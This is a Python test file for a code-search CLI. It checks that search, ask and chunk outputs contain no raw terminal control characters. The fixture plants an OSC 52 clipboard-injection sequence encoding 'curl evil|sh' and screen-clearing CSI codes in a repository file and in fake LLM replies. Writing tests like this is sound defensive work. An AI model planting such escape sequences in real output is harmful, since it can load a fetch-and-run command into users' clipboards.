"""Issue 15 (Medium): the CLI never writes raw control characters to the terminal.

A repository file carries an OSC 52 sequence (sets the clipboard to `curl evil|sh`) and a
CSI sequence; the loopback provider, through the real `openai` SDK, answers with them too.
`codeqa search`, `codeqa ask` (streamed deltas and final text), `codeqa chunks` and the JSON
outputs are run through the real entry point as a subprocess with its real stdout/stderr.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

from codeqa_lsp.cli.terminal import strip_controls
from tests.fakes.llm_server import FakeLLMServer, Reply

OSC52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"  # base64("curl evil|sh")
CSI = "\x1b[2J\x1b[1;1H"
C1_CSI = "\x9b31m"
HOSTILE = f'''"""Clipboard helpers.{OSC52}{CSI}"""


def copy_to_clipboard(text):
    """Copy text to the clipboard{C1_CSI} for the user."""
    return "{OSC52}" + text
'''


def run(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[bytes]:
    code = "import sys; from codeqa_lsp.cli import main; sys.exit(main(sys.argv[1:]))"
    return subprocess.run(
        [sys.executable, "-c", code, *args],
        capture_output=True,
        env={**os.environ, **(env or {})},
        timeout=600,
    )


def assert_clean(result: subprocess.CompletedProcess[bytes]) -> None:
    for stream in (result.stdout, result.stderr):
        text = stream.decode("utf-8", "replace")
        assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text, text[:400]
        assert all(
            ch in "\n\t" or ord(ch) >= 0x20
            for ch in text
            if ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F
        )


def test_strip_controls_keeps_newlines_tabs_and_text() -> None:
    assert (
        strip_controls(f"a\tb\n{OSC52}c{CSI}d{C1_CSI}é中")
        == "a\tb\n]52;c;Y3VybCBldmlsfHNoc[2J[1;1Hd31mé中"
    )


def test_cli_output_has_no_control_characters(tmp_path: Path, fake_llm: FakeLLMServer) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "clip.py").write_text(HOSTILE)
    store = ["--embedder", "hash", "--index-dir", str(tmp_path / "idx")]
    index = ["--root", str(repo), *store]
    fake_llm.default_reply = Reply(f"It copies text {OSC52} to the clipboard {CSI}[1].", deltas=5)

    indexed = run("index", str(repo), *store)
    assert indexed.returncode == 0, indexed.stderr
    assert_clean(indexed)
    for args in (
        ("search", "copy to clipboard", *index),
        ("search", "copy to clipboard", "--json", *index),
        ("chunks", str(repo / "clip.py")),
    ):
        result = run(*args)
        assert result.returncode == 0, result.stderr
        assert b"copy_to_clipboard" in result.stdout  # the probe sees the hostile file
        assert_clean(result)
    asked = run(
        "ask",
        "how is text copied to the clipboard?",
        *index,
        "--base-url",
        fake_llm.openai_url,
        "--model",
        "gpt-test",
        env={"OPENAI_API_KEY": "sk-test-terminal-0000000000"},
    )
    assert asked.returncode == 0, asked.stderr
    assert b"It copies text" in asked.stdout and fake_llm.requests_to("chat")
    assert_clean(asked)
